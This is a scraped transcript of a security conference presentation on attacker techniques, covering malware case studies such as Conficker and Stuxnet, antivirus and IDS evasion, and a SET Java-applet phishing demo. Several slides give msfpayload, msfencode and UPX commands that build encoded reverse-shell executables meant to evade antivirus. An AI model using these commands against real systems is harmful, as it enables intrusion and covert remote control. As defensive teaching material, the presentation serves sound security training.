Presentation is loading. Please wait.

Presentation is loading. Please wait.

John Strand SANS Black Hills Information Security

Similar presentations

Presentation on theme: "John Strand SANS Black Hills Information Security"— Presentation transcript:

1John Strand SANS Black Hills Information Security
If I wake up evil... John Strand SANS Black Hills Information Security

2 State of the Hack (Why We are Losing)
The attackers have a clear advantage on us They don't play by any rules We do... They have a well defined structure for learning Little to no attribution Many think that compliance equals security This is not true Compliance with regulations is a guideline They are a series of objectives Many times we don't have time to "know" our networks and systems

3 Malware Example: Conficker
Devastating worm that infected over 15 million computers Infection through MS08-067, file shares and removable media Microsoft disabled autorun in response to this worm Highly effective defenses Tries to kill AV every second Blocks certain DNS lookups Disables Auto update Disables Safe-mode Updates itself Uses crypto4 State Of The Hack: Sony 100 Million accounts compromised
Shut down their network for 23 days $171 million in lost revenue and costs By the way, there were multiple Sony hacks this quarter Cross analysis between 1 million Sony passwords and 250K Gawker passwords revealed that many people reuse passwords Also, many people use password complexity exactly like we have trained them And it still does not work

5 State Of The Hack: Bank Of America
“Hundreds” of accounts compromised But in this case size does not matter The accounts we targeted “high value” targets The attackwas launched by an insider Overly elaborate attack Ordered new checks, forwarded phone calls and arranged for the check pickup The attackers were unaware of automatic bill-pay...? 10 million dollars stolen How do we defend against an insider?

6 State of the Hack RSA About the RSA attack..
It might be worse than we thought, and we thought it was bad Attacks against LMCO, L-3 and possibly Northrup Grumman SecureID’s generate a “random” pin every 60 seconds This pin is based on a random seed file that is shared byt the server and to token If you obtain the seed file from the server (.ASC or .XML) you can clone the pin on the fob What if RSA was storing PINs for its customers? What if those PINS were compromised Unfortunately, we don’t know a whole lot7 Wait, what? Hi John, Company X is asked every day if Product X could have stopped the latest du jour threat that is bypassing traditional blacklisting-based antivirus. On June 26th, 2010, we showed how Product X beat down Stuxnet. On August 26th, Product X beat down DLL Hijacking attempts. The threats keep coming, so which ones should we beat down next?

8 How did it Infect? USB… Yep, plain old USB
The easiest way to bypass thefirewall, IDS and IPS There were a number of 0-days .lnk file vulnerability Print Spooler (CVE ) Win32 Keyboard Layout Vulnerability Privilege escalation via Task Schedule There has been some misinformation about the Task Scheduler vulnerability from some AV vendors You do not need to be in the local administrators group It also used some older exploits like Conficker anyone?

9 On to the Details Remember the Windows baseline section of 464?
tasklist /m tasklist /m s7otbxdx.dll Stuxnet used dll replacement to insert execution redirection In fact, it moved s7otbxdx.dll to s7otbxsx.dll inserted its own s7otbxdx.dll This is important because it means the attackers had an understanding of the original code 93 of the original 109 exports are forwarded to the renamed s7otbxsx.dll The remaining 16 get us excited

10 How did it Communicate? Once it infects a system it tries to connect to two sites to verify connectivity: Clearly not targeting a US audience…. P2P Communication C2 serversin Malaysia and Denmark Checking Versions It also uses peer-to-peer communication Remember what we covered in the network lab? Yeah, it tried to spread via shares Watch that system-to-system communication Watch for PLC systems connecting to the Internet

11 Clouds.... Evil Clouds.

12 What is Cloud Computing?
I had to look it up I hear about it a lot, but I don’t have a clear concept of what it is Straight to the Wiki! “Cloud computing is Internet-based computing, whereby shared resources, software and information are provided to computers and other devices on-demand, like a public utility.” I get it… It is like a Bot-Net! Based on Vendor Information it looks like it is going to make me irrelevant

13 But What is it? “It is a paradigm shift..” Oh oh… This is going to be good. It is a paradigm shift following the mainframe and client-server shifts that preceded it. Details are abstracted from the users who no longer have need of, expertise in, or control over the technology infrastructure "in the cloud" that supports them.[1] Cloud computing describes a new supplement, consumptionand delivery model for IT services based on the Internet, and it typically involves the provision of dynamically scalable and often virtualized resources as a service over the Internet.[2][3] It is a byproduct and consequence of the ease-of-access to remote computing sites provided by the Internet.[4] The term cloud is used as a metaphor for the Internet, based on the cloud drawing used in the past to represent the telephone network [5], and later to depict the Internet in computer network diagrams as an abstraction of the underlying infrastructure it represents.[6] Typical cloud computing providers deliver common business applications online which are accessed from a web browser, while the software and data are stored on servers.

14 I Am Letting Wikipedia Write All of My Presentations!
Security could improve due to centralization of data[35], increased security-focused resources, etc., but concerns can persist about loss of control over certain sensitive data, and the lack of security for stored kernels[36]. Security is often as good as or better than under traditional systems, in part because providers are able to devote resources to solving security issues that many customers cannot afford.[37] Providerstypically log accesses, but accessing the audit logs themselves can be difficult or impossible. Furthermore, the complexity of security is greatly increased when data is distributed over a wider area and / or number of devices.

15 Looking Forward To Unemployment?

16 But Wait!!! Did they say “Internet”
“The term cloud is used as a metaphor for the Internet.” But the Internet is Evil!! How can this be so?

17 Lets set the stage.. We have to know who it is we are working with
Who are the people we aredefending? Who is attacking? What are their capabilities? What are their means? What are the tools we have to defend ourselves? Who is on our side?

18 Your Users They are trying to go places they shouldn’t
Security is not a major concern They never get into trouble “It was just a pop-up!” They “think” they know what it would look like if they were attacked. No skull and crossbones? Good togo! You “think” they are “stupid” Are they?

19 Granny Max Loves to gamble Likes Polka Dots
Likes anything with “Polka” in it Thinks the CD tray is a coaster Collects Gnomes Bypasses your outbound web filters buy using a third party anonymizing proxy

20 Phil… From Accounting Works with numbers… ... and Terabytes of Porn!
Has a “slight” problem Does not get along with Granny Max Hates cats Bypasses your filtering by using a SSH tunnel through his home system

21 The “Average” Users Do not gamble… Do not surfporn…
… at work Do not surf porn… ….at work Likes: Facebook, YouTube, Politics, eBay, Googling, Fantasy football, Fark, Drudge Report, the Huffington Post, CNN, Amazon Dislikes: Web filters Quickly becoming friends with Phil and Gran Max to learn ways to bypass your filtering

22 The Bad Guys The Bobs Motivated Wicked skilled (more on this later)
Can you imagine their HR department? Wicked skilled (more on this later) They either own or infect many of the sites your more “interesting” users are going to The Bobs

23 The Cloud The Internet is big… … really big
You just won't believe how vastly hugely mindboggingly big it is... Most of it is worthless.. and Evil! Many of your users will not stop clicking until they visit every site

24 Lets Compromise An Account

25 Bypassing AV "But Anti-Virus software will protect us... Right?"
Anti-Virus, like all software, has its limitations Do not believe for one second that it is the ultimate protection It works great for detecting and removing known malware That means someone was infected before you Many dedicated and targeted attackers are not concerned about anti virus software But why?

26 How Would an Attacker Bypass AV?
There are a variety of ways But remember the goal is to create a "new" signature Attackers can use packers to "pack" the malicious code This creates a self-extracting and executing file In the process of packing the executable is scrambled Functions may not be where AV expectsthem to be Attackers can also use tools to "encode" the executable This has been around for a long time in tools like ADMutate and PEScramble One technique these tools use is to add a large number of "jumps" to the code making it difficult to reverse

27 No Tricks Let's say an attacker wanted to create an executable that created a reverse connecting, memory based rootkit Straight msfpayload to an exe ./msfpayload windows/meterpreter/reverse_tcp LHOST= LPORT=8081 X > PlainMetrev_8081.exe

28 Not Too Bad..

29 But Wait!!!

30 Thank You Panda…

31 Add a Bit of UPX.. Attackers can use compression as a means to bypass AV products One product that attackers often use is the Ultimate Packer and Unpacker for Executables (UPX) upx -2 -f -o PlainMetRevUPX.exe PlainMetRev.exe This will create an executable that is compressed with a setting of 2 The settings go from 1 to 9  The higher the level the greater the compression 2 works very well for bypassing AV

32 Cut in Half?

33 What if We Used the Browser for Communication?
./msfpayload windows/shell/reverse_http LHOST= LPORT=9091 X > PlainShellRevHttp_8081.exe This is slightly different than the previous example This is a shell that makes a reverse HTTP connection

34 Down to Only 17.95%

35 What if We Try a Reverse http Shell with Encoding?
./msfpayload windows/shell/reverse_http LHOST= LPORT=8080 R | ./msfencode -b '' " - t exe -o EncShellRevHttp.exe We are now using encoding on the executable This means the executable will be different every time it is created The default encoder with the Metasploit framework is "Shikata ga nai"  This means "There is nothing that can be done about it" in Japanese

36 Race to 0

37 Bypassing IDS There are a variety of ways to bypass AV
But what about IDS? Turns out many IDS products have the same "signature-based" problem Some claim to be "heuristic" We can fragment our attacksSeparate the attack across multiple packetsWe can encode the attacks Into Base 64 Unicode Hex

38 Bypassing IDS: Uncreative, Yet, Effective Ways
Why not have the victim system connect to us! We bypass many firewall and IDS/IPS restrictions We can make it look like standard web traffic  We could have our attacks go over Secure Sockets Layer Many organizations are using SSL to protect their traffic in transit However, it often blinds them to attacks against their web servers Attackers can try Cross Site Scripting, SQL Injection and Command injection all day long Remember just because there is a lock it does not mean it is "secure"

39 Blending with Normal Processes
One of the easiest ways for an attacker to hide or even attack your systems is to "blend-in" Many people think that an attacker will only use exploits to "spread" through your network This is not true Rather, theywill utilize built-in services and commands to compromise additional systems SSH or RDP with accounts and passwords from the first system compromised This will not be caught by your IDS because it is "normal" traffic

40 Exploit Demo

41 Java as a Payload Java is an excellent payload option
Installed pretty much everywhere Users are accustomed to clicking “Run” for Java apps SET has the ability to take a Metasploit payload and export it to a .jar file In this example we will be taking the default SET web page and inserting a .jar file into it When a user connects to our site the java app will load Shell will ensue Its what's for breakfast.

42 Starting SET Nice ASCII Art!43 Please select Option Number 2
SETting Options Hack By Numbers! Please select Option Number 2

44 SET Website Attack Vectors
The Option We Will Be Using Very Effective If You Know HTML Import your own website is even more effective if you are not particularly good at HTML

45 Choosing Java as Our Payload
Can be flaky

46 Setting the Payload Type
Please Select Option 1 for 32 Bit Or, 6 for Windows 64 Bit Systems Meterpreter and VNC payloads are nice - However, they can be unstable Shell Reverse_TCP tends to be themost stable in testing Knowing if your target is running 64 bit can be a big help

47 We Are Going to Use shikata_ga_nai
Setting the Encoder We Are Going to Use shikata_ga_nai We Will Encode Twice

48 Linux and OS X Payloads Please Choose “no” Metasploit Starting

49 Reverse Payload Listening on 4444
Payload in Waiting Because Cows are Cool Reverse Payload Listening on 4444

50 http://[Your Linux IP]Browsing to Your Site Linux IP] Everyone Clicks “Run”

51 Got Shell? Yes!!! Now you can wield your Windows Command-line Kung-fu!
Interacting with Our Shell \ Time to do the “Happy Dance”

52 There are other ways...

53 ISR Evilgrade Modular exploit tool to spoof Software Update Responses
"Yes, there IS an update available!" Delivers executable of your choosing to the victim Includes support for multiple vulnerable updaters JRE, WinZip, WinAmp, OpenOffice, iTunes, Notepad++ and more Relies on MITM from third-party attack LAN and Ettercap, or remote with DNS manipulation Perl-based console interface similar to CiscoIOS Output and navigation slightly messy

54 USB Threat Update Let’s say you disabled Autorun on all your systems
Further, let’s say you disable USB mass storage devices You can still be compromised by a tin of Altoids Enter Programmable HID USB Keystroke Dongle The latest attack vector from IronGeek He is now trying to find fixes Implemented S.E.T Upload any Metasploit Payload

55 Wireless Device Control “My SSID is P0wned”
